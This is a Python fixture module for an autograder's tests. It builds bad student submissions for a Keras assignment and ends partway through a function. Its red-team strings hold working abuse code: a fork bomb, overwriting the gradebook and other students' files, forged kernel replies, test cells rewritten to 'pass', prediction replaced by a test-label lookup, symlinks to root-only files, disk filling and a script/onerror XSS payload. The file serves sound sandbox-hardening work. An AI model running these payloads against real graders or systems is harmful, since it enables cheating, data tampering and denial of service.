"""Corpora of bad submissions of Parts 1 and 2, made from the solution, for tests and benchmarks.

Each :class:`BadSubmission` is what a student might hand in, with the Part 1 and Part 2 scores it
must get and a phrase of the message its student sees (in the graded notebook's outputs or the
report's notes). Three corpora:

- :data:`CORPUS`, mistakes and accidents: an endless loop, a memory hog, a fork bomb, a network
  request, a snoop into other students' files and the gradebook, a deleted or edited test, a
  broken or missing notebook, a flood of output, stderr noise, monkeypatched libraries, a global
  that fakes the trained network, bad weights files, Keras 2 code, training on globals;
- :data:`RED_TEAM`, a determined student who wants points without the work or other students'
  files: input transformers, forged kernel replies, silenced exceptions, modules that shadow the
  libraries, checks patched while a cell runs, a Keras internal that answers with the test labels,
  reading the hidden tests, links to the gradebook, ``source/``, other students' work, a root-only
  file and ``/dev/zero`` (in the submission, and planted by the kernel while it runs), outputs
  that slip past a cap, a disk filled, thousands of files, scripts in the feedback;
- :data:`VARIANTS`, correct work in other valid styles (the functional API, settings as strings
  or objects, ``"acc"``, Keras 2's ``input_shape``, a notebook with cell ids in format 4.4), each
  at full marks, and one that retrained on the test images, at full marks and flagged for the
  instructor (:mod:`grading.signals`).

``tests/test_bad_submissions.py`` grades all three in one sandboxed run beside the solution;
``benchmarks/bench_parallel.py`` mixes the first with good ones.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from grading import course as c
from grading import demo

NOTEBOOKS = ("part1_data", "part2_mlp")
FULL = {"part1_data": 7, "part2_mlp": 12}
PART1_ONLY = {"part1_data": 7, "part2_mlp": 0}  # a submission of Part 1 alone: Part 2 was not submitted
WEIGHTS = Path("trained_models") / "part2_mlp.weights.h5"


@dataclass
class BadSubmission:
    student: str
    what: str
    make: Callable[[Path, dict], None]  # edits a copy of the base in place; gets the context
    scores: dict  # notebook -> expected score
    message: str  # a phrase the student sees
    violation: str = ""  # a phrase expected in the report's sandbox_violations
    base: str = "solution"  # "solution", "part1" or "part2" (the solution's one part alone), "blank" (the release)
    submitted: Callable[[Path, dict], None] | None = None  # changes the submitted folder itself (links)
    forbidden: str = ""  # a phrase the student must never see
    failing: tuple | None = None  # the graded cells that must fail, every other one passing (None: not checked)
    signal: str = ""  # a phrase expected in the report's signals (for the instructor)
    # A phrase the attack prints only once it has taken effect (its patches in place, its private
    # names found): a red-team case whose attack an upgrade broke fails, instead of still seeing
    # 0 points and passing while it no longer tests the defence.
    ran: str = ""


def _notebook(folder: Path, name: str) -> Path:
    return folder / f"{name}.ipynb"


def edit(folder: Path, name: str, grade_id: str, change: Callable[[str], str]) -> None:
    demo.edit_cell(_notebook(folder, name), grade_id, change)


def insert_after(folder: Path, name: str, grade_id: str, source: str) -> None:
    """Add a cell of the student's own after the cell ``grade_id`` (nbgrader keeps added cells)."""
    path = _notebook(folder, name)
    notebook = nbformat.read(path, as_version=4)
    index = next(i for i, cell in enumerate(notebook.cells)
                 if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    cell = nbformat.v4.new_code_cell(source)
    if (notebook.nbformat, notebook.nbformat_minor) < (4, 5):
        del cell["id"]  # cell ids came with nbformat 4.5
    notebook.cells.insert(index + 1, cell)
    nbformat.write(notebook, path)


def delete_cell(folder: Path, name: str, grade_id: str) -> None:
    path = _notebook(folder, name)
    notebook = nbformat.read(path, as_version=4)
    notebook.cells = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") != grade_id]
    nbformat.write(notebook, path)


SNOOP = '''
import os
blocked = []
for path in {paths!r}:
    try:
        with open(path, "ab") as handle:
            handle.write(b"overwritten by a student")
        print("WROTE", path)
    except OSError as error:
        blocked.append(type(error).__name__)
print("snooping blocked:", blocked)
print("visible in ../..:", sorted(os.listdir("../..")))
'''

NETWORK = '''
import socket, urllib.request
for attempt in (lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3),
                lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=3)):
    try:
        attempt()
        print("network: connected")
    except OSError as error:
        print("network blocked:", type(error).__name__)
'''

FAKE_TRAINED = '''
class PerfectModel:
    """Looks each test image up in the test set instead of recognising it."""
    def __init__(self):
        import numpy as np
        (_, _), (x, y) = course.load_course_split()
        self.answers = {image.tobytes(): label for image, label in zip((x / 255).astype("float32"), y.reshape(-1))}
    def predict(self, images, **kwargs):
        import numpy as np
        return np.eye(10)[[self.answers.get(image.tobytes(), 0) for image in images]]

trained.model = PerfectModel()
'''


def _wrong_model_weights(folder: Path, context: dict) -> None:
    """Weights saved from a multilayer network with 50 hidden units instead of 100."""
    import keras

    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
                              keras.layers.Dense(50, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    model.save_weights(folder / WEIGHTS)


def _half_width(source: str) -> str:
    return source.replace("keras.layers.Dense(100, activation=\"relu\")", "keras.layers.Dense(50, activation=\"relu\")")


MONKEYPATCH = '''
import builtins
import numpy as np
keras.Model.count_params = lambda self: 308_310
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
builtins.print = lambda *args, **kwargs: None
'''

CORPUS = [
    BadSubmission("demo_endless_loop", "an endless loop at the top of a solution cell",
                  lambda f, ctx: edit(f, "part1_data", "class_counts", lambda s: "while True:\n    pass\n" + s),
                  {"part1_data": 5, "part2_mlp": 0}, "CellTimeoutError", base="part1"),
    BadSubmission("demo_memory_hog", "a cell that fills memory until the kernel is killed",
                  lambda f, ctx: insert_after(f, "part1_data", "load_cifar10",
                                              "hog = []\nwhile True:\n    hog.append(bytearray(100_000_000))"),
                  {"part1_data": 2, "part2_mlp": 0}, "it ran out of memory", "memory limit x1", base="part1"),
    # Forked copies of the kernel may also fill memory and kill it; either way the cells after it
    # (a fresh kernel, if it died) still earn Part 1's points.
    BadSubmission("demo_fork_bomb", "a fork bomb",
                  lambda f, ctx: insert_after(f, "part1_data", "load_cifar10_matches_data",
                                              "import os\nwhile True:\n    os.fork()"),
                  PART1_ONLY, "", "refused forks", base="part1"),
    BadSubmission("demo_network", "a network request to the grading machine and to the internet",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts", NETWORK.format(port=ctx["port"])),
                  PART1_ONLY, "network blocked: ConnectionRefusedError", base="part1"),
    BadSubmission("demo_snooper", "reads and overwrites another student's files and the gradebook",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts", SNOOP.format(paths=ctx["targets"])),
                  PART1_ONLY, "visible in ../..: ['demo_snooper']", base="part1"),
    BadSubmission("demo_deleted_test", "a deleted test cell",
                  lambda f, ctx: delete_cell(f, "part1_data", "class_counts_example"), PART1_ONLY, "", base="part1"),
    BadSubmission("demo_edited_test", "a visible test edited into `pass`, hiding a bug", lambda f, ctx: demo.tamper(f),
                  {"part1_data": 4, "part2_mlp": 0}, "AssertionError", base="part1",
                  signal="edited locked cells, restored before grading: load_cifar10_values"),
    BadSubmission("demo_broken_json", "a notebook that is not valid JSON",
                  lambda f, ctx: _notebook(f, "part2_mlp").write_text('{"cells": ['),
                  {"part1_data": 7, "part2_mlp": 0}, "part2_mlp.ipynb is not a readable notebook (NotJSONError"),
    BadSubmission("demo_missing_notebook", "a missing notebook", lambda f, ctx: _notebook(f, "part2_mlp").unlink(),
                  {"part1_data": 7, "part2_mlp": 0}, "part2_mlp.ipynb was not submitted: 0 points for it"),
    BadSubmission("demo_output_flood", "prints 30 MB of output",
                  lambda f, ctx: insert_after(f, "part1_data", "class_counts",
                                              "for line in range(300_000):\n    print('x' * 100)"),
                  PART1_ONLY, "output truncated", "output truncated x1", base="part1"),
    BadSubmission("demo_stderr_noise", "writes to stderr in solution and test cells",
                  lambda f, ctx: edit(f, "part1_data", "class_counts", lambda s: s.replace(
                      "    ### BEGIN SOLUTION\n",
                      "    ### BEGIN SOLUTION\n    import sys, warnings\n    sys.stderr.write('noise\\n')\n"
                      "    warnings.warn('more noise')\n")),
                  PART1_ONLY, "", base="part1", failing=()),
    BadSubmission("demo_wrong_model", "50 hidden units instead of 100 (the honest version of the next one)",
                  lambda f, ctx: edit(f, "part2_mlp", "build_multilayer_nn", _half_width),
                  {"part1_data": 0, "part2_mlp": 4}, "308,310", base="part2", failing=('multilayer_nn_parameters', 'multilayer_nn_architecture', 'multilayer_nn_accuracy')),
    BadSubmission("demo_monkeypatch", "the same wrong network, with count_params, np.testing and print replaced",
                  lambda f, ctx: (edit(f, "part2_mlp", "build_multilayer_nn", _half_width),
                                  insert_after(f, "part2_mlp", "build_multilayer_nn", MONKEYPATCH)),
                  {"part1_data": 0, "part2_mlp": 4}, "308,310", base="part2", failing=('multilayer_nn_parameters', 'multilayer_nn_architecture', 'multilayer_nn_accuracy')),
    BadSubmission("demo_fake_global", "no weights, and a global `trained` whose model looks the answers up",
                  lambda f, ctx: ((f / WEIGHTS).unlink(), insert_after(f, "part2_mlp", "train_part2", FAKE_TRAINED)),
                  {"part1_data": 0, "part2_mlp": 8}, "part2_mlp.weights.h5", base="part2", failing=('multilayer_nn_accuracy',)),
    BadSubmission("demo_weights_corrupt", "a weights file that is not HDF5",
                  lambda f, ctx: (f / WEIGHTS).write_bytes(b"these are not weights" * 1000),
                  {"part1_data": 0, "part2_mlp": 8}, "part2_mlp.weights.h5", base="part2", failing=('multilayer_nn_accuracy',)),
    BadSubmission("demo_weights_wrong_architecture", "weights of a network with 50 hidden units",
                  _wrong_model_weights, {"part1_data": 0, "part2_mlp": 8}, "part2_mlp.weights.h5", base="part2", failing=('multilayer_nn_accuracy',)),
    BadSubmission("demo_weights_enormous", "a 150 MB weights file (the grader takes files up to 100 MB)",
                  lambda f, ctx: _enormous(f / WEIGHTS), {"part1_data": 0, "part2_mlp": 8}, "part2_mlp.weights.h5",
                  base="part2", failing=('multilayer_nn_accuracy',)),
    BadSubmission("demo_keras2_api", "the original assignment's Keras 2 code: SGD(lr=0.01), so training failed "
                  "at home and saved no weights", lambda f, ctx: _keras2_solution(f, ctx),
                  {"part1_data": 0, "part2_mlp": 4}, "write keras.optimizers.SGD(learning_rate=0.01)", base="part2",
                  failing=('train_multilayer_nn_runs', 'train_multilayer_nn_settings', 'multilayer_nn_accuracy')),
    BadSubmission("demo_fits_on_globals", "a training function that fits on the global training set",
                  lambda f, ctx: edit(f, "part2_mlp", "train_multilayer_nn",
                                      lambda s: s.replace("model.fit(xtrain, ytrain,", "model.fit(globals()['xtrain'], globals()['ytrain_1hot'],")),
                  {"part1_data": 0, "part2_mlp": 9}, "arguments", base="part2", failing=('train_multilayer_nn_settings',)),
]


FUNCTIONAL = '''def build_multilayer_nn():
    """The same network, written with Keras's functional API."""
    inputs = keras.Input(shape=(32, 32, 3))
    hidden = keras.layers.Dense(100, activation="relu")(keras.layers.Flatten()(inputs))
    return keras.Model(inputs, keras.layers.Dense(10, activation="softmax")(hidden))
'''

STRING_SETTINGS = '''def train_multilayer_nn(model, xtrain, ytrain):
    model.compile(loss=keras.losses.CategoricalCrossentropy(), optimizer="sgd", metrics=["acc"])
    return model.fit(xtrain, ytrain, batch_size=BUDGET.batch_size, epochs=BUDGET.epochs, verbose=2)
'''

RETRAIN_ON_TEST = '''
# "Fine-tuning": train again on the test images and keep those weights.
cheat = build_multilayer_nn()
cheat.set_weights(trained.model.get_weights())
cheat.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.SGD(learning_rate=0.05), metrics=["accuracy"])
cheat.fit(xtest, ytest_1hot, epochs=10, batch_size=16, verbose=0)
cheat.save_weights("trained_models/part2_mlp.weights.h5")
'''

KERAS2_BUILD = '''def build_multilayer_nn():
    """Keras 2 style: the input shape given to the first layer."""
    model = keras.Sequential()
    model.add(keras.layers.Flatten(input_shape=(32, 32, 3)))
    model.add(keras.layers.Dense(100, activation="relu"))
    model.add(keras.layers.Dense(10, activation="softmax"))
    return model
'''


def _replace_function(folder: Path, grade_id: str, source: str) -> None:
    """The solution cell ``grade_id`` of Part 2 rewritten as ``source`` (still a solution cell)."""
    edit(folder, "part2_mlp", grade_id, lambda _: source)


def _resave_weights(folder: Path, network) -> None:
    """The solution's trained weights as ``network`` (the same network, written another way) saves
    them: the same values, and the same optimizer state, as its training cell would have saved."""
    import h5py
    import keras

    sequential = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
                                   keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    sequential.load_weights(folder / WEIGHTS)
    original = folder / "original.weights.h5"
    shutil.move(folder / WEIGHTS, original)
    network.set_weights(sequential.get_weights())
    network.save_weights(folder / WEIGHTS)
    with h5py.File(original, "r") as source, h5py.File(folder / WEIGHTS, "a") as target:
        source.copy("optimizer", target)
    original.unlink()


def _functional_weights(folder: Path, context: dict) -> None:
    import keras

    inputs = keras.Input((32, 32, 3))
    hidden = keras.layers.Dense(100, activation="relu")(keras.layers.Flatten()(inputs))
    _resave_weights(folder, keras.Model(inputs, keras.layers.Dense(10, activation="softmax")(hidden)))


def _with_cell_ids(folder: Path) -> None:
    """Part 2 as nbformat 4.4 with one extra cell that carries an id, as nbformat's API writes it."""
    path = _notebook(folder, "part2_mlp")
    notebook = nbformat.read(path, as_version=4)
    notebook.nbformat_minor = 4
    for cell in notebook.cells:
        cell.pop("id", None)
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell("My notes, added with jupytext."))  # carries an id
    path.write_text(nbformat.writes(notebook, version=nbformat.NO_CONVERT))


def _trained_on_test(folder: Path, context: dict) -> None:
    """What RETRAIN_ON_TEST left in the weights file when the student ran the notebook (fast mode)."""
    import keras

    from cifar10_course.data import load_course_data

    _, _, x_test, y_test = load_course_data(context.get("mode", "fast"), context.get("data") or None)
    keras.utils.set_random_seed(1)
    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    model.load_weights(folder / WEIGHTS)
    model.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.SGD(learning_rate=0.05))
    model.fit(x_test, y_test, epochs=10, batch_size=16, verbose=0)
    model.save_weights(folder / WEIGHTS)


# Correct work in other valid styles, each at every automatic point of Part 2, and work whose grade
# needs a second look.
VARIANTS = [
    BadSubmission("demo_variant_functional", "the functional API, \"sgd\" as a string, a loss object and \"acc\"",
                  lambda f, ctx: (_replace_function(f, "build_multilayer_nn", FUNCTIONAL),
                                  _replace_function(f, "train_multilayer_nn", STRING_SETTINGS), _functional_weights(f, ctx)),
                  {"part1_data": 0, "part2_mlp": 12}, "Test accuracy", base="part2", failing=()),
    BadSubmission("demo_variant_keras2_ids", "Keras 2's Sequential().add(...) with input_shape on the first layer, in "
                  "an nbformat 4.4 notebook with a cell id (as nbformat's API and jupytext write it)",
                  lambda f, ctx: (_replace_function(f, "build_multilayer_nn", KERAS2_BUILD), _with_cell_ids(f)),
                  {"part1_data": 0, "part2_mlp": 12}, "Test accuracy", base="part2", failing=()),
    # Its weights file says how they were trained: at a learning rate of 0.05, for 630 steps, so the
    # settings test fails on what the file shows, whatever the kernel's record of the function says.
    BadSubmission("demo_retrains_on_test", "a cell that retrains on the test images and overwrites the weights",
                  lambda f, ctx: (insert_after(f, "part2_mlp", "train_part2", RETRAIN_ON_TEST), _trained_on_test(f, ctx)),
                  {"part1_data": 0, "part2_mlp": 9}, "were trained with a learning rate of 0.05", base="part2",
                  failing=("train_multilayer_nn_settings",), signal="trained on the test images?"),
]


# Real notebooks, as students edit them (issue 21): ordinary edits lose nothing, equivalent Keras
# spellings earn every point, and a mistake costs its own points only, with a message that says
# what to do. Each was a whole submission lost, or points lost twice, before.

def _paste_copies(folder: Path, context: dict) -> None:
    """JupyterLab's copy and paste keeps a cell's metadata: a solution cell and a test pasted again."""
    path = _notebook(folder, "part2_mlp")
    notebook = nbformat.read(path, as_version=4)
    for grade_id in ("build_multilayer_nn", "multilayer_nn_parameters"):
        index = next(i for i, cell in enumerate(notebook.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        copy = nbformat.from_dict(json.loads(json.dumps(notebook.cells[index])))
        copy["id"] = nbformat.v4.nbbase.random_cell_id()
        notebook.cells.insert(index + 1, copy)
    nbformat.write(notebook, path)


def _big_outputs(folder: Path, context: dict) -> None:
    """30 MB of figures saved in the notebook (feature maps, say)."""
    import base64

    path = _notebook(folder, "part2_mlp")
    notebook = nbformat.read(path, as_version=4)
    figure = base64.b64encode(os.urandom(3 * 2**20)).decode()
    cell = nbformat.v4.new_code_cell("show_feature_maps()  # ten large figures")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": figure, "text/plain": "<Figure>"})
                    for _ in range(10)]
    notebook.cells.insert(len(notebook.cells) - 1, cell)
    nbformat.write(notebook, path)


COMPILING_BUILD = '''def build_multilayer_nn():
    """The right network, compiled already (the training function compiles it again)."""
    model = keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(),
                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    model.compile(optimizer=keras.optimizers.SGD(learning_rate=0.01), loss="categorical_crossentropy")
    return model
'''

FUNCTION_SETTINGS = '''def train_multilayer_nn(model, xtrain, ytrain):
    model.compile(loss=keras.losses.categorical_crossentropy, optimizer=keras.optimizers.SGD(learning_rate=0.01),
                  metrics=[keras.metrics.categorical_accuracy])
    return model.fit(xtrain, ytrain, batch_size=BUDGET.batch_size, epochs=BUDGET.epochs, verbose=2)
'''

TENSORFLOW_SOFTMAX = '''import tensorflow as tf

def build_multilayer_nn():
    return keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(),
                             keras.layers.Dense(100, activation=tf.nn.relu), keras.layers.Dense(10, activation=tf.nn.softmax)])
'''

ACTIVATION_LAYERS = '''def build_multilayer_nn():
    return keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(),
                             keras.layers.Dense(100), keras.layers.Activation("relu"),
                             keras.layers.Dense(10), keras.layers.Softmax()])
'''


def _activation_layers(folder: Path, context: dict) -> None:
    import keras

    _replace_function(folder, "build_multilayer_nn", ACTIVATION_LAYERS)
    _resave_weights(folder, keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(100),
                                              keras.layers.Activation("relu"), keras.layers.Dense(10),
                                              keras.layers.Softmax()]))


def _newer_metadata(folder: Path, context: dict) -> None:
    """A test cell whose nbgrader metadata a newer nbgrader wrote: nbgrader 0.9 refuses the notebook."""
    path = _notebook(folder, "part2_mlp")
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "multilayer_nn_parameters":
            cell.metadata["nbgrader"]["schema_version"] = 99
    nbformat.write(notebook, path)


FAIR = [
    BadSubmission("demo_fair_pasted_cells", "a solution cell and a test cell pasted again in JupyterLab (their nbgrader "
                  "metadata copied too)", _paste_copies, {"part1_data": 0, "part2_mlp": 12}, "Test accuracy",
                  base="part2", failing=()),
    BadSubmission("demo_fair_deleted_accuracy_test", "the accuracy test deleted (it sits right after the locked "
                  "training cell)", lambda f, ctx: delete_cell(f, "part2_mlp", "multilayer_nn_accuracy"),
                  {"part1_data": 0, "part2_mlp": 12}, "Test accuracy", base="part2", failing=()),
    BadSubmission("demo_fair_big_outputs", "30 MB of figures saved in the notebook", _big_outputs,
                  {"part1_data": 0, "part2_mlp": 12}, "were left out of the graded copy", base="part2", failing=()),
    BadSubmission("demo_fair_compiled_build", "a build function that compiles its model",
                  lambda f, ctx: _replace_function(f, "build_multilayer_nn", COMPILING_BUILD),
                  {"part1_data": 0, "part2_mlp": 10}, "Take the model.compile(...) call out of build_multilayer_nn",
                  base="part2", failing=("multilayer_nn_architecture",)),
    BadSubmission("demo_fair_keras_functions", "the loss and the metric as Keras functions",
                  lambda f, ctx: _replace_function(f, "train_multilayer_nn", FUNCTION_SETTINGS),
                  {"part1_data": 0, "part2_mlp": 12}, "Test accuracy", base="part2", failing=()),
    BadSubmission("demo_fair_tensorflow_activations", "activation=tf.nn.relu and tf.nn.softmax (TensorFlow's twins)",
                  lambda f, ctx: _replace_function(f, "build_multilayer_nn", TENSORFLOW_SOFTMAX),
                  {"part1_data": 0, "part2_mlp": 12}, "Test accuracy", base="part2", failing=()),
    BadSubmission("demo_fair_activation_layers", "Dense(100) and an Activation(\"relu\") layer, Dense(10) and a "
                  "Softmax() layer", _activation_layers, {"part1_data": 0, "part2_mlp": 12}, "Test accuracy",
                  base="part2", failing=()),
    BadSubmission("demo_fair_newer_metadata", "a notebook nbgrader cannot process (its metadata from a newer nbgrader): "
                  "only that notebook is lost, with a note", _newer_metadata, {"part1_data": 7, "part2_mlp": 0},
                  "part2_mlp.ipynb could not be graded", failing=None),
    BadSubmission("demo_fair_renamed_weights", "the weights file renamed by a browser that downloaded it twice",
                  lambda f, ctx: (f / WEIGHTS).rename(f / WEIGHTS.parent / "part2_mlp.weights (1).h5"),
                  {"part1_data": 0, "part2_mlp": 8}, "You submitted trained_models/part2_mlp.weights (1).h5",
                  base="part2", failing=("multilayer_nn_accuracy",)),
]


def _keras2_solution(folder: Path, context: dict) -> None:
    """Keras 2 code as the original assignment's solution has it, run at home: the training cell
    failed with Keras 3's error for ``lr``, so no weights were saved."""
    _replace_function(folder, "build_multilayer_nn", KERAS2_BUILD)
    edit(folder, "part2_mlp", "train_multilayer_nn", lambda s: s.replace("SGD(learning_rate=0.01)", "SGD(lr=0.01)"))
    path = _notebook(folder, "part2_mlp")
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "train_part2":
            cell.outputs = [nbformat.v4.new_output("error", ename="ValueError", traceback=[],
                                                   evalue="Argument(s) not recognized: {'lr': 0.01}")]
    nbformat.write(notebook, path)
    (folder / WEIGHTS).unlink()


def _enormous(path: Path) -> None:
    with open(path, "wb") as handle:  # sparse: 150 MB on paper, nothing on disk
        handle.truncate(150 * 2**20)


def make(root: Path, solution: Path, context: dict, corpus=CORPUS, release: Path | None = None) -> dict[str, Path]:
    """A folder per bad submission under ``root``, each a copy of its base with its fault.

    ``release`` is the blank release, for the submissions based on it.
    """
    folders = {}
    for bad in corpus:
        folder = root / bad.student
        shutil.copytree(release if bad.base == "blank" else solution, folder)
        if bad.base == "part1":  # Part 1 alone: cheaper to grade, when Part 2 has nothing to show
            _notebook(folder, "part2_mlp").unlink()
            shutil.rmtree(folder / "trained_models")
        elif bad.base == "part2":
            _notebook(folder, "part1_data").unlink()
        bad.make(folder, context)
        folders[bad.student] = folder
    return folders


def after_submission(course: Path, context: dict, corpus) -> None:
    """Apply the changes that only the submitted folder can hold (links, FIFOs)."""
    for bad in corpus:
        if bad.submitted is not None:
            bad.submitted(course / "submitted" / bad.student / c.ASSIGNMENT, context)


# ---------------------------------------------------------------------------------------------
# The red team: a student who wants points without the work, or other students' files

FIRST_CELL = {"part1_data": "load_cifar10", "part2_mlp": "build_multilayer_nn"}


def before_everything(folder: Path, source: str, names=NOTEBOOKS) -> None:
    """Add a cell of the student's own before the first solution cell of each notebook in ``names``."""
    for name in names:
        if _notebook(folder, name).exists():
            path = _notebook(folder, name)
            notebook = nbformat.read(path, as_version=4)
            index = next(i for i, cell in enumerate(notebook.cells)
                         if cell.metadata.get("nbgrader", {}).get("grade_id") == FIRST_CELL[name])
            cell = nbformat.v4.new_code_cell(source)
            if (notebook.nbformat, notebook.nbformat_minor) < (4, 5):
                del cell["id"]
            notebook.cells.insert(index, cell)
            nbformat.write(notebook, path)


TRANSFORMER = """
_transformed, _seen = [0], [0]
def _everything_passes(lines):
    code = "".join(lines)
    _seen[0] += 1
    if code.startswith('\\"\\"\\"Check'):
        _transformed[0] += 1
        return ["pass\\n"]  # every test cell
    return lines
get_ipython().input_transformers_post.append(_everything_passes)
"""
TRANSFORMED = "print('the input transformer saw', _seen[0], 'inputs and rewrote', _transformed[0], 'test cells')"


def _transformer(folder: Path, context: dict) -> None:
    before_everything(folder, TRANSFORMER)
    for name in NOTEBOOKS:
        path = _notebook(folder, name)
        notebook = nbformat.read(path, as_version=4)
        notebook.cells.append(nbformat.v4.new_code_cell(TRANSFORMED))
        nbformat.write(notebook, path)


FORGED_REPLIES = """
import sys
ip = get_ipython()
kernel = ip.kernel
def _forge(*args, **kwargs):
    parent = kernel.get_parent("shell")
    ident = kernel._get_shell_context_var(kernel._shell_parent_ident)
    print("forging a reply")
    sys.stdout.flush()
    kernel.session.send(kernel.shell_stream, "execute_reply",
                        {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []},
                        parent=parent, ident=ident)
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
ip.events.register("pre_run_cell", _forge)
"""

SILENCED = """
ip = get_ipython()
import IPython.core.interactiveshell as _shell
assert callable(type(ip)._showtraceback) and "error_in_exec" in vars(_shell.ExecutionResult)  # what it patches
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
_shell.ExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)
_shell.ExecutionResult.success = property(lambda self: True)
print("exceptions silenced")
"""

SHADOWS = {
    "json.py": "print('SHADOWED json')\\nfrom importlib import import_module as _i\\nraise ImportError('shadow')\\n",
    "ipykernel_launcher.py": "print('SHADOWED launcher')\\n",
    "numpy.py": "print('SHADOWED numpy')\\n",
}

PATCH_WHILE_RUNNING = """
import cifar10_course as _course
_real = _course.check_parameter_count
_patched = []
def _patch(*args, **kwargs):
    _course.check_parameter_count = lambda model, expected: None
    if not _patched:
        _patched.append(1)
        print("parameter check patched while cells run")
def _restore(*args, **kwargs):
    _course.check_parameter_count = _real
get_ipython().events.register("pre_run_cell", _patch)
get_ipython().events.register("post_run_cell", _restore)
"""

LABELS_AS_PREDICTIONS = """
import numpy as _np
import keras as _keras
import keras.src.trainers.trainer as _trainer
(_, _), (_x, _y) = course.load_course_split()
_answers = {image.tobytes(): label for image, label in zip((_x / 255).astype("float32"), _y.reshape(-1))}
def _predict(self, data, *args, **kwargs):
    return _np.eye(10)[[_answers.get(_np.asarray(image, dtype="float32").tobytes(), 0) for image in data]]
_keras.Model.predict = _predict
_trainer.Trainer.predict = _predict
print("predict replaced by a lookup of the test labels")
"""

READ_HIDDEN = """
import os, json
notebook = json.load(open("part1_data.ipynb"))
marker = "BEGIN " + "HIDDEN TESTS"  # not written whole: this cell is in the notebook too
print("hidden tests in the notebook:", any(marker in "".join(c["source"]) for c in notebook["cells"]))
for path in {hidden!r}:
    print("readable:", path, os.path.exists(path))
print("processes:", sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:4])
"""

PLANT_LINKS = """
import os
for name, target in {links!r}:
    try:
        os.remove(name)
    except OSError:
        pass
    os.symlink(target, name)
os.chmod(".", 0o777)
print("planted", sorted(os.listdir(".")))
"""

OUTPUT_TRICKS = """
from IPython.display import display, update_display
display({"text/plain": "x"}, raw=True, display_id="grow")
for _ in range(700):
    update_display({"text/plain": "y" * 10_000}, raw=True, display_id="grow")
display({"text/plain": "z"}, metadata={"m": "w" * 6_000_000}, raw=True)
"""

HUGE_ERROR = "raise ValueError('e' * 8_000_000)"

FILL_DISK = """
import os
written = 0
try:
    os.mkdir("junk")
    while True:
        with open(f"junk/{written}", "wb") as handle:
            handle.write(b"0" * 10_000_000)
        written += 1
except OSError as error:
    print("disk:", error.strerror)
made = 0
try:
    while True:
        open(f"/tmp/f{made}", "w").close()
        made += 1
except OSError as error:
    print("files:", error.strerror)
"""

SCRIPT_OUTPUT = """
from IPython.display import HTML, Javascript, display
display(HTML("<b>answer</b><script>document.title = 'pwned by a student'</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('pwned by a student')"))
"""


def _links(folder: Path, context: dict) -> None:
    """Links in the submitted folder to what the grader must never copy or read."""
    for name, target in (("gradebook.db", context["gradebook"]), ("source_copy", context["source"]),
                         ("other_student.ipynb", context["other_notebook"]), ("root_only.txt", context["root_only"]),
                         ("zero.bin", "/dev/zero")):
        os.symlink(target, folder / name)
    weights = folder / WEIGHTS
    weights.unlink()
    os.symlink(context["other_weights"], weights)  # another student's trained network
    os.link(context["gradebook"], folder / "grades_copy.db")  # a hard link: the gradebook by another name
    os.mkfifo(folder / "pipe")


def _dev_zero_notebook(folder: Path, context: dict) -> None:
    _notebook(folder, "part2_mlp").unlink()
    os.symlink("/dev/zero", _notebook(folder, "part2_mlp"))


def _many_files(folder: Path, context: dict) -> None:
    junk = folder / "data"
    junk.mkdir()
    for number in range(300):
        (junk / f"{number:03}.txt").write_text("x")
    with open(folder / "huge.bin", "wb") as handle:  # sparse: 150 MB on paper, nothing on disk
        handle.truncate(150 * 2**20)


def _untrained_weights(folder: Path, context: dict) -> None:
    """Weights of the right network, never trained: about 0.1 accuracy."""
    import keras

    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
    model.save_weights(folder / WEIGHTS)


# -- round two: replayed answers, a model switched between tests, answers and models too big -----

HOOK_ENTRY = """
def _install_over_the_graders_helper(replacement):
    names = [name for name in list(globals()) if name.startswith("_grading_harvest_")]
    for name in names:
        globals()[name] = replacement
    return len(names)
class _Text:
    def __init__(self, text): self.text = text
    def __repr__(self): return self.text
    def _repr_pretty_(self, printer, cycle): printer.text(self.text)
"""

REPLAY = HOOK_ENTRY + """
import json as _json
_TABLE = {table!r}
_replayed = [0]
def _replay(request_json):
    _replayed[0] += 1
    probes = _json.loads(request_json)["probes"]
